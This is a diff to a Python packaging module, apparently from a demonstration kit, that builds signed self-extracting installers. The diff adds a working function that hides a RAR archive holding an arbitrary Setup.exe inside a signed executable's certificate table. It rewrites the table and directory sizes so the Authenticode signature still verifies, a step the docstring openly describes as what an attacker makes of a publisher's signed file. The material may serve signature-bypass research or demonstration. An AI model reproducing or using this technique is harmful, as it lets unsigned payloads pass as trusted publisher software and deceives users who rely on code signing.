@@ -1,12 +1,15 @@
 """The product package of a run's road, as a publisher ships it: a signed,
 versioned Setup.exe in a RAR archive, the archive behind a self-extractor head
 and the whole file signed again ("<name>_Setup.exe"). UnRAR finds the archive
-behind the head; the signature covers head and archive.
+behind the head; the signature covers head and archive. And the file that an
+attacker makes of anything the publisher signed: a RAR hidden in its
+certificate table, which the signature does not cover.
 
     python3 -m kit.package SETUP.exe HEAD.exe CHAIN.pem KEY.pem OUT_Setup.exe [PADDING_MB]
 makes one from the command line (scripts/demo.sh)."""
 
 import os
+import struct
 import subprocess
 import sys
 import tempfile
@@ -15,11 +18,12 @@ from pathlib import Path
 from .signing import sign_with
 
 
-def make_package(setup, head, chain, key, out, padding_mb=0):
+def make_package(setup, head, chain, key, out, padding_mb=0, archive=None):
     """Writes the signed package to out and returns it. setup is the installer
     (signed here as Setup.exe), head the program the archive is appended to;
     padding_mb adds a file of incompressible bytes, so that the download and
-    the extraction last long enough to be seen."""
+    the extraction last long enough to be seen. archive (bytes), when given,
+    is appended in place of the archive of setup."""
     out = Path(out)
     with tempfile.TemporaryDirectory() as work:
         work = Path(work)
@@ -28,14 +32,40 @@ def make_package(setup, head, chain, key, out, padding_mb=0):
         sign_with(setup, chain, key, content / "Setup.exe")
         if padding_mb:
             (content / "data.bin").write_bytes(os.urandom(padding_mb << 20))
-        archive = work / "package.rar"
-        subprocess.run(["rar", "a", "-r", "-idq", "-m1", str(archive), "."], cwd=content, check=True)
+        if archive is None:
+            made = work / "package.rar"
+            subprocess.run(["rar", "a", "-r", "-idq", "-m1", str(made), "."], cwd=content, check=True)
+            archive = made.read_bytes()
         joined = work / "joined.exe"
-        joined.write_bytes(Path(head).read_bytes() + archive.read_bytes())
+        joined.write_bytes(Path(head).read_bytes() + archive)
         out.unlink(missing_ok=True)
         sign_with(joined, chain, key, out)
     return out
 
+
+def hide_in_certificate_table(program, setup, chain, key, out):
+    """Writes to out the program, signed, with a RAR of setup (as Setup.exe)
+    inside its certificate table: the one WIN_CERTIFICATE's dwLength and the
+    security directory's size grow to cover the archive and its zero padding to
+    8 bytes. The Authenticode digest skips the table, so the signature still
+    verifies; UnRAR finds the archive as it finds one behind a self-extractor.
+    The PE checksum is left stale: Windows does not check it for a program."""
+    with tempfile.TemporaryDirectory() as work:
+        work = Path(work)
+        data = bytearray(sign_with(program, chain, key, work / "signed.exe").read_bytes())
+        (work / "Setup.exe").write_bytes(Path(setup).read_bytes())
+        subprocess.run(["rar", "a", "-idq", "-m1", "hidden.rar", "Setup.exe"], cwd=work, check=True)
+        archive = (work / "hidden.rar").read_bytes()
+    pe = struct.unpack_from("<I", data, 0x3C)[0]
+    optional = pe + 24
+    directory = optional + {0x10B: 96, 0x20B: 112}[struct.unpack_from("<H", data, optional)[0]] + 4 * 8
+    offset, size = struct.unpack_from("<II", data, directory)
+    assert size and offset + size == len(data), "the table must end the file"
+    data += archive + bytes(-len(archive) % 8)
+    struct.pack_into("<I", data, directory + 4, len(data) - offset)
+    struct.pack_into("<I", data, offset, len(data) - offset)
+    Path(out).write_bytes(data)
+    return Path(out)
 
 if __name__ == "__main__":
     args = sys.argv[1:]
